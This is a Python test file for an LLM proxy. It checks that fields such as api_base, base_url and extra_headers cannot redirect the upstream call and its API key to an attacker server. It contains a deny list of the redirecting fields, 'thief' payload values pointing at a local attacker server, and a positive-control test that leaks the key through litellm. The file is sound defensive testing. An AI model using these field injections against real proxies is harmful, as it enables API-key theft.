"""Issue 13, item 1: no client field may redirect the upstream call (and its key) anywhere."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Any

import httpx
import openai
import pytest

from warrantguard.adapters._kernel._allowlist import (
    ALLOWED_FIELDS,
    CHAT_COMPLETION_FIELDS,
    TEST_MODE_FIELDS,
    disallowed_field,
)
from warrantguard.adapters.proxy import ProxyConfig, ProxyServer, create_app

from .conftest import KEY, UPSTREAM_KEY, pairwise
from .servers import Attacker

FORBIDDEN = ("api_base", "base_url", "api_key", "custom_llm_provider", "extra_headers", "extra_body", "api_version",
             "organization", "timeout", "num_retries", "mock_response", "azure_ad_token", "litellm_params")


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    with Attacker() as server:
        yield server


def value_for(field: str, attacker: Attacker) -> Any:
    """What a thief would send in ``field``: the attacker's address wherever an address fits."""
    return {"api_key": "sk-thief", "extra_headers": {"x-forward": attacker.url}, "timeout": 1, "num_retries": 3,
            "extra_body": {"api_base": attacker.url}, "mock_response": "owned",
            "custom_llm_provider": "openai"}.get(field, attacker.url)


def litellm_proxy() -> ProxyServer:
    """A proxy in front of a litellm model string holding the upstream key (litellm honours api_base)."""
    config = ProxyConfig(model="openai/gpt-4o-mini", upstream_api_key=UPSTREAM_KEY, api_keys=(KEY,), retries=0)
    return ProxyServer(create_app(config))


def test_the_attacker_server_sees_a_leak_when_litellm_is_told_to_go_there(attacker: Attacker) -> None:
    """Positive control: this is the call the proxy used to make, and the attacker does record it."""
    import litellm

    litellm.completion(model="openai/gpt-4o-mini", messages=pairwise("hi"), api_base=attacker.url,
                       api_key=UPSTREAM_KEY, num_retries=0, timeout=10)
    assert attacker.connections >= 1 and UPSTREAM_KEY.encode() in b"".join(attacker.received)


@pytest.mark.parametrize("certified", [False, True], ids=["passthrough", "certified"])
@pytest.mark.parametrize("field", FORBIDDEN)
def test_raw_httpx_fields_that_redirect_the_upstream_are_400(attacker: Attacker, field: str, certified: bool) -> None:
    body: dict[str, Any] = {"model": "m", "messages": pairwise(), field: value_for(field, attacker)}
    if certified:
        body["warrant"] = {"options": ["motorcycle", "train"]}
    with litellm_proxy() as proxy:
        response = httpx.post(proxy.url + "/v1/chat/completions", json=body, timeout=30,
                              headers={"authorization": f"Bearer {KEY}"})
    assert response.status_code == 400, response.text
    error = response.json()["error"]
    assert error["param"] == field and error["type"] == "invalid_request_error" and field in error["message"]
    assert error["code"] == "unknown_parameter"
    assert attacker.connections == 0 and UPSTREAM_KEY not in response.text


@pytest.mark.parametrize("certified", [False, True], ids=["passthrough", "certified"])
@pytest.mark.parametrize("field", ["api_base", "base_url", "extra_headers", "api_key"])
def test_openai_sdk_extra_body_cannot_redirect_either_upstream(make_proxy: Callable[..., str], upstream,
                                                               attacker: Attacker, field: str,
                                                               certified: bool) -> None:
    fake, _ = upstream
    extra: dict[str, Any] = {field: value_for(field, attacker)}
    if certified:
        extra["warrant"] = {"options": ["motorcycle", "train"]}
    with litellm_proxy() as proxy:
        urls = [make_proxy(), proxy.url + "/v1"]
        for url in urls:
            client = openai.OpenAI(base_url=url, api_key=KEY, max_retries=0, timeout=30)
            with pytest.raises(openai.BadRequestError) as info:
                client.chat.completions.create(model="m", messages=pairwise(), extra_body=extra)
            assert info.value.status_code == 400 and info.value.body["param"] == field  # type: ignore[index]
    assert attacker.connections == 0 and fake.requests == []


def test_openai_parameters_pass_to_the_upstream_unchanged(make_proxy: Callable[..., str], upstream) -> None:
    fake, _ = upstream
    params: dict[str, Any] = {
        "temperature": 0.2, "top_p": 0.9, "max_tokens": 50, "max_completion_tokens": 60, "stop": ["\n\n"],
        "n": 1, "seed": 7, "user": "u-1", "metadata": {"team": "a"}, "logprobs": False, "top_logprobs": None,
        "presence_penalty": 0.1, "frequency_penalty": 0.1, "logit_bias": {"50256": -100},
        "response_format": {"type": "text"}, "parallel_tool_calls": True, "store": False,
        "stream_options": None, "tool_choice": "none",
        "tools": [{"type": "function", "function": {"name": "f", "parameters": {"type": "object"}}}],
    }
    client = openai.OpenAI(base_url=make_proxy(), api_key=KEY, max_retries=0, timeout=30)
    completion = client.chat.completions.create(model="m", messages=pairwise("hi"), **params)
    assert completion.choices[0].message.content == "You said: hi"
    sent = fake.requests[-1]
    assert {k: sent[k] for k in params if k in sent} == {k: v for k, v in params.items() if k in sent}
    assert set(sent) <= CHAT_COMPLETION_FIELDS and "temperature" in sent and "tools" in sent


def test_mock_response_only_in_test_mode(attacker: Attacker) -> None:
    body = {"model": "m", "messages": pairwise("hi"), "mock_response": "Mocked."}
    for test_mode, status in ((False, 400), (True, 200)):
        config = ProxyConfig(model="openai/gpt-4o-mini", upstream_api_key="sk-not-used", test_mode=test_mode)
        with ProxyServer(create_app(config)) as proxy:
            response = httpx.post(proxy.url + "/v1/chat/completions", json=body, timeout=30)
        assert response.status_code == status, response.text
    assert response.json()["choices"][0]["message"]["content"] == "Mocked."
    test_mode_config = ProxyConfig(model="openai/gpt-4o-mini", test_mode=True)
    with ProxyServer(create_app(test_mode_config)) as proxy:  # test mode still refuses redirection
        leak = httpx.post(proxy.url + "/v1/chat/completions", timeout=30,
                          json={**body, "api_base": attacker.url})
    assert leak.json()["error"]["param"] == "api_base" and attacker.connections == 0


def test_the_allowlist_is_the_openai_sdk_parameter_list() -> None:
    from openai.types.chat.completion_create_params import CompletionCreateParamsBase

    assert set(CompletionCreateParamsBase.__annotations__) | {"stream"} == CHAT_COMPLETION_FIELDS
    assert not {f for f in FORBIDDEN if f not in TEST_MODE_FIELDS} & (ALLOWED_FIELDS | TEST_MODE_FIELDS)
    assert disallowed_field({"model": "m", "warrant": {}, "zzz": 1, "api_base": "x"}) == "api_base"
    assert disallowed_field({"mock_response": "x"}) == "mock_response"
    assert disallowed_field({"mock_response": "x"}, test_mode=True) is None
